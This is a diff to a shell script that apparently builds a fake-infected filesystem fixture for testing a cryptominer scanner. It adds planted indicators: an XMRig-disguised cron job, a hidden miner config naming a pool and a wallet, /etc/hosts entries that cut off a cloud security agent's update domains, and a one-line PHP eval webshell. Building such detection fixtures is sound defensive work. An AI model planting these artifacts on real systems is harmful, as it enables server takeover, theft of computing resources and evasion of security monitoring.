@@ -147,6 +147,16 @@ Nov  2 03:12:01 web1 sshd[811]: Accepted publickey for admin from 192.0.2.10 por
 Nov  2 03:12:01 web1 sshd[811]: pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)
 EOF
 
+w etc/hosts 0644 <<'EOF'
+127.0.0.1	localhost
+127.0.1.1	web1.example.internal web1
+10.0.0.5	db01.internal db01
+::1	localhost ip6-localhost ip6-loopback
+EOF
+w etc/cron.d/healthcheck 0644 <<'EOF'
+*/5 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/3f1c0a5e-1b2c-4d5e-8f90-123456789abc
+EOF
+
 if [ "$clean" = --clean ]; then
   elf usr/bin/ps 'procps-ng ps'
   exit 0
@@ -240,3 +250,40 @@ EOF
 # Other families' droppers.
 elf usr/bin/cleanfda 'cleanfda miner dropper'
 elf usr/bin/kaudited 'skidmap kaudited'
+
+# --- no family: what minescan finds by behaviour -----------------------------------
+# An innocent-looking cron job whose program is an XMRig build (its strings give it away;
+# the cron line is raised because of what it starts), a miner config in a hidden
+# directory naming a pool and a wallet, the cloud security agent's update domains cut
+# off in /etc/hosts, and a PHP webshell among a site's uploads.
+elf usr/local/bin/backup-rotate "$(printf '%s\n' 'XMRig/6.21.0' 'donate.v2.xmrig.com' 'rx/0' 'cryptonight' 'stratum+tcp://' '--donate-level=N')"
+w etc/cron.d/backup-rotate 0644 <<'EOF'
+*/5 * * * * root /usr/local/bin/backup-rotate --quiet
+EOF
+w var/tmp/.ICE-unix/.x/c.json 0644 <<'EOF'
+{
+    "autosave": true,
+    "background": true,
+    "cpu": { "enabled": true, "max-threads-hint": 75 },
+    "donate-level": 0,
+    "pools": [
+        {
+            "algo": "rx/0",
+            "url": "gulf.moneroocean.stream:10128",
+            "user": "4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK",
+            "pass": "x"
+        }
+    ]
+}
+EOF
+w etc/hosts 0644 <<'EOF'
+127.0.0.1	localhost
+127.0.1.1	web1.example.internal web1
+10.0.0.5	db01.internal db01
+127.0.0.1	update.aegis.aliyun.com
+127.0.0.1	jsrv.aegis.aliyun.com
+::1	localhost ip6-localhost ip6-loopback
+EOF
+w var/www/html/uploads/2026/11/thumb.php 0644 <<'EOF'
+<?php @eval($_POST['pass']); ?>
+EOF
